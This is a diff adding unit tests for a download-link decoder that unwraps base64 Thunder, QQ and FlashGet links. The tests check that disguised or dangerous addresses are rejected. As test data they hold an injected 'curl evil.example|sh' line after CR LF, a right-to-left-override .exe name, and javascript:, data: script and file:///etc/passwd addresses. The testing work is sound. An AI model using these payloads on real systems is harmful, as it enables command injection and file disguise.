@@ -150,6 +150,81 @@ TEST_F(FoundLinksTest, MakesLinksAsTheWindowDoesOnOneLine) {
             u"qqdl://aHR0cDovL2EvYg==");
 }
 
+// The link of `kind` ("qqdl://" or "thunder://") for the address bytes `bytes`, as it would be
+// posted: Thunder's wrapper around them.
+std::u16string LinkOf(std::u16string_view prefix, std::string bytes) {
+  if (prefix == u"thunder://") bytes = "AA" + bytes + "ZZ";
+  std::u16string link(prefix);
+  base64::EncodeAppend(bytes, link);
+  std::erase(link, u'\n');
+  return link;
+}
+
+// What a link carries never reaches a list, a terminal or a downloader as something else: no
+// line break or NUL to run as a command, no direction or invisible mark to disguise a file, no
+// scheme that is not a download.
+TEST_F(FoundLinksTest, RefusesAddressesThatWouldMisleadOrRunAsCommands) {
+  // Some of these bytes are GBK too, and read so they hold no such character: forced UTF-8.
+  constexpr auto kUtf8 = Charset::kUtf8;
+  const struct {
+    const char* name;
+    std::u16string line;
+    std::u16string why;
+    Charset charset = Charset::kAuto;
+  } rows[] = {
+      {"command after CR LF", LinkOf(u"qqdl://", "http://a/\r\ncurl evil.example|sh\r\n"),
+       u"control character U+000D"},
+      {"NUL", LinkOf(u"qqdl://", std::string("http://a/\0b", 11)), u"U+0000"},
+      {"DEL", LinkOf(u"thunder://", "http://a/\x7f"), u"U+007F"},
+      {"next line U+0085", LinkOf(u"qqdl://", "http://a/b\xc2\x85x"), u"control character U+0085",
+       kUtf8},
+      {"right-to-left override", LinkOf(u"qqdl://", ToUtf8(u"http://a/下载\u202egpj.exe")),
+       u"direction character U+202E"},
+      {"line separator", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u2028c")), u"U+2028"},
+      {"paragraph separator", LinkOf(u"thunder://", ToUtf8(u"http://a/b\u2029c")), u"U+2029"},
+      {"Arabic letter mark", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u061cc")), u"U+061C", kUtf8},
+      {"left-to-right mark", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u200ec")), u"U+200E"},
+      {"isolate", LinkOf(u"qqdl://", ToUtf8(u"http://a/\u2066b\u2069")), u"U+2066"},
+      {"byte-order mark inside", LinkOf(u"qqdl://", ToUtf8(u"http://a/\ufeffb")), u"U+FEFF"},
+      {"direction mark in a plain address", u"http://a/\u202egpj.exe", u"U+202E"},
+      {"next line in a plain address", u"http://a/\u0085b", u"U+0085"},
+      {"javascript", LinkOf(u"thunder://", "javascript:alert(document.domain)//"),
+       u"'javascript:' address"},
+      {"data", LinkOf(u"qqdl://", "data:text/html,<script>alert(1)</script>"), u"'data:'"},
+      {"file", LinkOf(u"qqdl://", "file:///etc/passwd"), u"'file:'"},
+      {"long scheme cut short", LinkOf(u"qqdl://", std::string(100, 'x') + ":y"),
+       u"'xxxxxxxxxxxxxxxxxxxxxxxx…:'"},
+  };
+  for (const auto& row : rows) {
+    Check({row.name, row.line, row.charset, Kind::kFailed, row.why},
+          OpenFoundLink(row.line, row.charset));
+  }
+}
+
+TEST_F(FoundLinksTest, ReadsTheAddressInsideTheWrapperAndWhateverStandsBeforeTheLink) {
+  constexpr auto kAuto = Charset::kAuto;
+  const std::u16string link = u"thunder://QUFodHRwOi8vYS9iWlo=";
+  const Row rows[] = {
+      // Read with "ZZ" after it, the UTF-8 dash's last byte and a "Z" made one GBK character.
+      {"UTF-8 dash before the wrapper's end", LinkOf(u"thunder://", ToUtf8(u"http://a/x—")), kAuto,
+       Kind::kConverted, u"http://a/x—"},
+      {"UTF-8 dash before ASCII", LinkOf(u"qqdl://", ToUtf8(u"http://a/—b")), kAuto,
+       Kind::kConverted, u"http://a/—b"},
+      {"flashget wrapper after UTF-8",
+       LinkOf(u"flashget://", ToUtf8(u"[FLASHGET]http://a/—[FLASHGET]")), kAuto, Kind::kConverted,
+       u"http://a/—"},
+      {"GBK whose first byte is past UTF-8's leads",
+       LinkOf(u"thunder://", codepage::ToNarrow(u"http://a/鳌搬\u3000.zip")), kAuto,
+       Kind::kConverted, u"http://a/鳌搬\u3000.zip"},
+      {"full-width colon", u"下载：" + link, kAuto, Kind::kConverted, u"http://a/b"},
+      {"enumeration comma", u"1、" + link, kAuto, Kind::kConverted, u"http://a/b"},
+      {"corner bracket", u"「" + link + u"」", kAuto, Kind::kConverted, u"http://a/b"},
+      {"byte-order marks around stay blanks", u"\ufeff" + link + u"\ufeff", kAuto, Kind::kConverted,
+       u"http://a/b"},
+  };
+  for (const Row& row : rows) Check(row, OpenFoundLink(row.line, row.charset));
+}
+
 // Bytes valid both as UTF-8 and as code page 936 are read as a person would read them: real
 // Chinese names whose GBK bytes happen to be UTF-8, and real Latin names in UTF-8.
 TEST_F(FoundLinksTest, ChoosesTheReadingAPersonWouldForBytesValidBothWays) {
